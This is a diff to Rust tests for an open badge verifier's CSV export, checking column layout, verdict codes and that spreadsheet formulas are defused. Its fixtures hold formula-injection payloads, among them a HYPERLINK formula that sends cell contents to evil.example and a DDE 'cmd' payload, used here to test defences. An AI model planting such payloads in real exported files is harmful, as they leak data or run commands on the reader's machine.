@@ -5,7 +5,9 @@ use std::process::Command;
 
 use crate::samples;
 use crate::support::suites::told;
+use open_badge_verifier::input::batch::Given;
 use open_badge_verifier::report::Verdict;
+use open_badge_verifier::report::badge::Alignment;
 use open_badge_verifier::view::batch::{Batch, summary};
 use open_badge_verifier::view::formatter::English;
 use open_badge_verifier::view::text::{Messages, Text};
@@ -49,7 +51,16 @@ fn exported() -> String {
             name.clone_into(&mut badge.name);
             badge.id = Some(name.to_owned());
             badge.issuer.name = Some(name.to_owned());
+            badge.issuer.host = None;
+            badge.issuer.id = Some(name.to_owned());
+            badge.tags = vec![name.to_owned()];
+            let [target_url, target_framework, target_code] = [(); 3].map(|()| Some(name.to_owned()));
+            let target_name = name.to_owned();
+            badge.alignments =
+                vec![Alignment { target_name, target_url, target_framework, target_code, target_description: None }];
             let id = list.add(Some(name.to_owned()), Some(name.to_owned()));
+            let columns = vec![(name.to_owned(), name.to_owned()), ("Job".to_owned(), name.to_owned())];
+            list.give(id, Given { name: name.to_owned(), columns });
             list.finish(id, summary(&report, text));
         }
         list.csv(text)
@@ -101,14 +112,16 @@ fn no_cell_is_a_formula_whatever_separates_them() {
 #[test]
 fn every_cell_is_quoted_and_read_back_as_it_was() {
     let csv = exported();
-    assert!(csv.starts_with("\u{feff}\"File or link\",\"Badge\",\"Issuer\",\"Issuer known by\",\"Recipient\","));
+    assert!(csv.starts_with("\u{feff}\"'=1+1\",\"Job\","), "what was given stands first, its headings defused too");
     let rows = cells(&csv, ',');
-    assert!(rows.iter().all(|row| row.len() == 13));
+    let given = NAMES.len() + 1;
+    assert!(rows.iter().all(|row| row.len() == given + 19));
+    assert_eq!(rows[0][given..given + 3], ["File or link", "Badge", "Issuer"]);
     for line in csv.trim_start_matches('\u{feff}').split("\r\n").filter(|line| !line.is_empty()) {
         assert!(line.starts_with('"') && line.ends_with('"'), "{line}");
         assert!(!line.contains(char::is_control), "{line:?}");
     }
-    let named: Vec<&str> = rows.iter().skip(1).map(|row| row[1].as_str()).collect();
+    let named: Vec<&str> = rows.iter().skip(1).map(|row| row[given + 1].as_str()).collect();
     assert_eq!(named[0], "'=1+1");
     assert_eq!(named[1], "x;'=HYPERLINK(\"https://evil.example/?\"&A1;\"ok\");y");
     assert_eq!(named[3], "a =cmd|' /C calc'!A0");
@@ -126,8 +139,43 @@ fn what_is_no_formula_is_left_alone() {
         list.stop();
         let rows = cells(&list.csv(text), ',');
         assert_eq!((rows[1][0].as_str(), rows[1][1].as_str()), ("one-two.png", "Lee, Ann \"Al\" (C++; a-b)"));
-        assert_eq!((rows[1][5].as_str(), rows[1][8].as_str()), ("ann@mail.example", "valid"));
-        assert_eq!((rows[2][0].as_str(), rows[2][7].as_str()), ("Pasted text", "Not checked"));
+        assert_eq!((rows[1][6].as_str(), rows[1][9].as_str()), ("ann@mail.example", "valid"));
+        assert_eq!((rows[2][0].as_str(), rows[2][8].as_str()), ("Pasted text", "Not checked: stopped"));
+    });
+}
+
+#[test]
+fn the_columns_say_who_says_so_how_bad_it_is_and_why() {
+    with_text(|text| {
+        let mut list = Batch::default();
+        for verdict in [Verdict::Valid, Verdict::Altered] {
+            let mut report = samples::report(verdict);
+            let badge = report.badge.as_mut().expect("a badge");
+            badge.tags = vec!["welding".to_owned(), "Welding".to_owned(), "mapping".to_owned()];
+            badge.alignments = Vec::new();
+            let id = list.add(Some("badge.png".to_owned()), None);
+            list.finish(id, summary(&report, text));
+            let columns = vec![("姓名".to_owned(), "张伟".to_owned())];
+            list.give(id, Given { name: "张伟".to_owned(), columns });
+        }
+        let rows = cells(&list.csv(text), ',');
+        let [heads, valid, altered] = &rows[..] else { panic!("two rows") };
+        let of = |row: &[String], head: &str| {
+            let place = heads.iter().position(|other| other == head).unwrap_or_else(|| panic!("{head} in {heads:?}"));
+            row[place].clone()
+        };
+        assert_eq!((heads[0].as_str(), valid[0].as_str()), ("姓名", "张伟"));
+        let codes = ["Verdict code", "Severity code", "Reason code", "Issuer known by"];
+        assert_eq!(codes.map(|head| of(valid, head)), ["valid", "good", "conforms", "domain"]);
+        assert_eq!(codes.map(|head| of(altered, head)), ["altered", "bad", "signature-mismatch", ""]);
+        assert_eq!(of(valid, "Issuer's host or id"), "badges.northwind.example");
+        assert_eq!(of(valid, "Skills"), "welding; mapping", "each once");
+        assert!(of(altered, "Reason").starts_with("Its contents don't match"), "{}", of(altered, "Reason"));
+        for head in ["Badge", "Issuer", "Issuer's host or id", "Issued", "Credential id"] {
+            let [sure, unsure] = [of(valid, head), of(altered, head)];
+            assert!(!sure.contains("unconfirmed") && unsure.ends_with(" (unconfirmed)"), "{head}: {sure}, {unsure}");
+        }
+        assert_eq!(of(altered, "Skills"), "welding (unconfirmed); mapping (unconfirmed)");
     });
 }
 
